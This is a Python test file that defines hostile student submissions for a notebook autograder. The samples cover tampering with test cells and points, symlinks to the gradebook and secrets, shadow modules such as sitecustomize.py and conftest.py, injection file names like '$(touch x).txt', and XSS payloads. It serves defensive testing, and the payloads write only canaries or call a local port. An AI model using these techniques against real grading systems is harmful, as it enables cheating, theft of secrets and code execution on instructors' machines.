"""Attacks by what stands in the folder: cells and metadata, files, links, names, and things that are no notebook."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

from tests.hostile.sample import CELL, LEAK, Sample

HARMFUL = 'open("@COURSE@/leaked-@NAME@", "w").write("CANARY shadow ran")\n'


def edit(path: Path, change: Callable[[list], list]) -> None:
    """Change the list of cells of a notebook, as JSON."""
    data = json.loads(path.read_text(encoding="utf-8"))
    data["cells"] = change(data["cells"])
    path.write_text(json.dumps(data), encoding="utf-8")


def is_test(cell: dict) -> bool:
    meta = cell["metadata"].get("nbgrader", {})
    return bool(meta.get("grade")) and not meta.get("solution")


def _tests(name: str, must_not: str, change: Callable[[dict], dict | list | None]) -> Sample:
    """An attack that puts `change(cell)` in place of every test cell."""
    def all_of_them(cells: list) -> list:
        changed = []
        for cell in cells:
            result = change(json.loads(json.dumps(cell))) if is_test(cell) else cell
            changed += result if isinstance(result, list) else [result] if result else []
        return changed
    return Sample(name, "test cells and metadata", must_not, change=lambda folder: edit(folder / CELL, all_of_them))


def _meta(**values) -> Callable[[dict], dict]:
    return lambda cell: cell | {"metadata": {"nbgrader": cell["metadata"]["nbgrader"] | values}}


def code(source: str, **more) -> dict:
    """A code cell of the learner's own, as JSON."""
    return {"cell_type": "code", "id": "mine", "metadata": {}, "outputs": [], "execution_count": None, "source": source,
            **more}


def _link(name: str, must_not: str, change: Callable[[Path], None], **more) -> Sample:
    return Sample(name, "links and paths", must_not, change=change, **more)


def _shadow(name: str, must_not: str, *files: str, text: str = HARMFUL) -> Sample:
    def add(folder: Path) -> None:
        for file in files:
            (folder / file).parent.mkdir(parents=True, exist_ok=True)
            (folder / file).write_text(text)
    return Sample(name, "shadow modules", must_not, change=add)


def _no_notebook(name: str, must_not: str, text: str | bytes) -> Sample:
    content = text.encode() if isinstance(text, str) else text
    return Sample(name, "broken notebooks", must_not, change=lambda folder: (folder / CELL).write_bytes(content))


def _relinked(name: str, target: Callable[[Path], Path]) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target(folder))
    return change


def _padded(folder: Path) -> None:
    data = json.loads((folder / CELL).read_text())
    data["metadata"]["padding"] = "x" * 100_000_000
    (folder / CELL).write_text(json.dumps(data))


def _other_kernel(folder: Path) -> None:
    data = json.loads((folder / CELL).read_text())
    data["metadata"]["kernelspec"] = {"name": "../../evil", "language": "bash", "display_name": "<script>"}
    (folder / CELL).write_text(json.dumps(data))


def _many_cells(cells: list) -> list:
    return cells + [code("1") | {"id": f"more-{n}"} for n in range(3_000)]


def _strange_names(folder: Path) -> None:
    for name in ("..%2f..%2fupstream.db", "a\nb.txt", "$(touch x).txt", "<script>alert(1)<_script>.txt", "-rf",
                 "CON", "x" * 200):
        (folder / name).write_text("CANARY-free")
    with open(os.fsencode(folder) + b"/\xff\xfe.txt", "w") as file:
        file.write("no text for a name")


def _deep(folder: Path) -> None:
    path = folder
    for _ in range(60):
        path = path / "deeper"
    path.mkdir(parents=True)
    (path / "value.py").write_text(HARMFUL)


def _script(text: str) -> Callable[[Path], None]:
    return lambda folder: edit(folder / CELL, lambda cells: [
        {"cell_type": "markdown", "id": "script", "metadata": {}, "source": text}, *cells])


SAMPLES = [
    _tests("test-cells-emptied", "pass tests that are not there", lambda cell: cell | {"source": ""}),
    _tests("test-cells-of-its-own", "have its own tests count", lambda cell: cell | {"source": "100.0"}),
    _tests("test-cells-deleted", "lose no points for tests that are gone", lambda cell: None),
    _tests("test-cells-doubled", "earn twice, or stop the batch", lambda cell: [cell, cell]),
    _tests("test-cells-marked-as-skipped", "keep its tests from running",
           lambda cell: cell | {"metadata": cell["metadata"] | {"tags": ["skip-execution"]}}),
    _tests("test-cells-allowed-to-fail", "have errors expected",
           lambda cell: cell | {"metadata": cell["metadata"] | {"tags": ["raises-exception"]}}),
    _tests("test-cells-as-answers", "have a test cell count as an answer",
           _meta(solution=True, grade=True, locked=False)),
    _tests("a-thousand-points-each", "set what a cell is worth", _meta(points=1000)),
    _tests("negative-points", "turn a loss into a gain", _meta(points=-1000)),
    _tests("metadata-of-tomorrow", "stop the batch by a schema that is not known", _meta(schema_version=99)),
    _tests("metadata-of-another-type", "stop the batch by metadata that make no sense",
           lambda cell: cell | {"metadata": {"nbgrader": [1, {"points": {}}], "tags": 7}}),
    _tests("test-cells-as-text", "have tests that are no code", lambda cell: {
        "cell_type": "markdown", "id": cell["id"], "metadata": cell["metadata"], "source": "100.0"}),
    _tests("outputs-already-there", "have outputs counted that no run made", lambda cell: cell | {"outputs": [
        {"output_type": "execute_result", "data": {"text/plain": "100.0"}, "metadata": {}, "execution_count": 1}]}),
    Sample("tests-before-answers", "test cells and metadata", "change what tests see by their order",
           change=lambda folder: edit(folder / CELL, lambda cells: cells[::-1])),
    Sample("graded-cells-of-its-own", "test cells and metadata", "add cells that are worth points",
           change=lambda folder: edit(folder / CELL, lambda cells: cells + [code("100.0", metadata={"nbgrader": {
               "grade_id": f"extra-{n}", "grade": True, "points": 100, "solution": False, "locked": True, "task": False,
               "schema_version": 3, "cell_type": "code"}}) | {"id": f"extra-{n}"} for n in range(3)])),
    Sample("one-id-for-all", "test cells and metadata", "have every cell taken for the one it passes",
           change=lambda folder: edit(folder / CELL, lambda cells: [cell | {"id": "check-1-1"} for cell in cells])),
    _link("link-to-the-secret", "have the secret copied to its feedback",
          _relinked("notes.txt", lambda folder: folder.parents[2] / "secret")),
    _link("link-to-the-gradebook", "have the gradebook copied or overwritten",
          _relinked("timestamp.txt", lambda folder: folder.parents[2] / "upstream.db")),
    _link("link-to-a-neighbours-engine", "be graded with a neighbour's work",
          _relinked("value.py", lambda folder: folder.parents[1] / "victim" / folder.name / "value.py")),
    _link("link-to-the-source-notebook", "have the model answers shown on its page",
          _relinked(CELL, lambda folder: folder.parents[2] / "source" / folder.name / CELL)),
    _link("link-to-a-folder", "have a neighbour's folder copied",
          _relinked("data", lambda folder: folder.parents[1] / "victim")),
    _link("link-in-a-circle", "keep the copy from ending", _relinked("loop", lambda folder: folder)),
    _link("pipe", "keep the copy waiting", lambda folder: os.mkfifo(folder / "pipe")),
    _link("pipe-for-a-module", "keep the judge waiting for value.py",
          lambda folder: ((folder / "value.py").unlink(), os.mkfifo(folder / "value.py"))),
    _link("strange-names", "be taken for a path, an option or markup", _strange_names),
    _link("sixty-folders-deep", "exceed what a path may be", _deep),
    _link("time-of-hand-in", "stop the batch by a time that is none, or be early by a thousand years",
          lambda folder: (folder / "timestamp.txt").write_text("0001-13-99 CANARY-free \x00")),
    _link("unreadable", "stop the batch by a file that cannot be read",
          lambda folder: ((folder / "notes.txt").write_text("x"), (folder / "notes.txt").chmod(0))),
    _shadow("shadows-of-python", "be imported in place of Python's modules",
            "json.py", "struct.py", "os.py", "types.py"),
    _shadow("shadows-of-packages", "be imported in place of installed packages", "numpy/__init__.py", "mpmath.py",
            "psutil.py", "nbgrader/__init__.py", "ipykernel/__init__.py"),
    _shadow("shadows-of-the-course", "be imported in place of the course's package", "utils/__init__.py",
            "utils/judge/__init__.py", "utils/notebook.py", "value/__init__.py"),
    _shadow("started-by-python", "be run at every start of Python", "sitecustomize.py", "usercustomize.py",
            "pyvenv.cfg", "evil.pth"),
    _shadow("started-by-tools", "be run by a tool that looks for its settings here", "conftest.py", "pytest.py",
            "nbgrader_config.py", "ipython_config.py", "jupyter_config.py", ".ipython/profile_default/startup/00.py"),
    _shadow("graphviz-of-its-own", "have a program of its own run", "dot", "bin/python", ".venv/bin/python",
            text="#!/bin/sh\necho CANARY shadow ran > @COURSE@/leaked-@NAME@\n"),
    _no_notebook("no-json", "stop the batch", '{"cells": ['),
    _no_notebook("nested-without-end", "stop the batch by recursion", "[" * 200_000),
    _no_notebook("no-bytes", "stop the batch", b""),
    _no_notebook("binary", "stop the batch", bytes(range(256)) * 100),
    _no_notebook("format-3", "be read by a converter that runs code", json.dumps(
        {"nbformat": 3, "nbformat_minor": 0, "metadata": {},
         "worksheets": [{"cells": [{"cell_type": "code", "input": "1"}]}]})),
    _no_notebook("lone-surrogates", "stop what writes a page", json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [code("'\ud800'"), {"cell_type": "\udfff"}]})),
    _no_notebook("an-integer-of-megabytes", "keep the parser busy", '{"cells": [' + "9" * 4_000_000 + "]}"),
    Sample("a-hundred-megabytes", "broken notebooks", "fill memory and disk", change=_padded, slow=True),
    Sample("another-kernel", "broken notebooks", "be run by a program that it names", change=_other_kernel),
    Sample("three-thousand-cells", "broken notebooks", "keep the grader busy with cells that do nothing",
           change=lambda folder: edit(folder / CELL, _many_cells), slow=True),
    Sample("script-in-text", "broken notebooks", "run a script on the instructor's page", change=_script(
        '<script>fetch("http://127.0.0.1:@PORT@/@NAME@")</script><img src=x onerror=alert(1)>'
        "[click](javascript:alert(1))")),
    Sample("page-of-its-own", "broken notebooks", "end the page and write another", change=_script(
        "</div></body><h1>88 of 88</h1><style>* { display: none }</style><!--")),
    Sample("picture-with-a-script", "broken notebooks", "run a script from a pasted picture",
           change=lambda folder: edit(folder / CELL, lambda cells: [
               {"cell_type": "markdown", "id": "p", "metadata": {}, "source": "![p](attachment:p.svg)", "attachments": {
                   "p.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"}}}, *cells])),
    Sample("leaks-in-a-helper", "shadow modules", "have a module beside value.py read what it may not",
           module="\nimport helper\n",
           change=lambda folder: (folder / "helper.py").write_text(
               LEAK + '_leak(open("@COURSE@/secret", "rb").read())\n')),
]
